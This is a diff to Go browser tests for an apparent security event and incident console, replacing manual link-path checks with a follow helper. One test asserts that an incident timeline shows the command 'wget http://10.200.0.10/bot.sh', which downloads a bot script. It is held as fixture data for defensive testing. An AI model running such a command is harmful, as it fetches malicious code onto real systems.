@@ -102,10 +102,7 @@ func TestBrowserLoginSearchLogout(t *testing.T) {
 	b.wantText("table tbody", "Failed password for alice")
 	b.checkPage("events-search")
 
-	b.submit("table tbody tr a")
-	if p := b.path(); !strings.HasPrefix(p, "/events/") {
-		t.Fatalf("the event link went to %s", p)
-	}
+	b.follow("table tbody tr a", "/events/")
 	b.wantText("main", "203.0.113.7")
 	b.checkPage("event-detail")
 
@@ -167,10 +164,7 @@ func TestBrowserAnalystWorkflow(t *testing.T) {
 
 	// Open the incident and triage it.
 	b.open("/incidents")
-	b.submit("table tbody tr a")
-	if p := b.path(); !strings.HasPrefix(p, "/incidents/") {
-		t.Fatalf("the incident link went to %s", p)
-	}
+	b.follow("table tbody tr a", "/incidents/")
 	b.wantText(".timeline", "wget http://10.200.0.10/bot.sh")
 	b.checkPage("incident")
 	b.checkNarrow("incident")
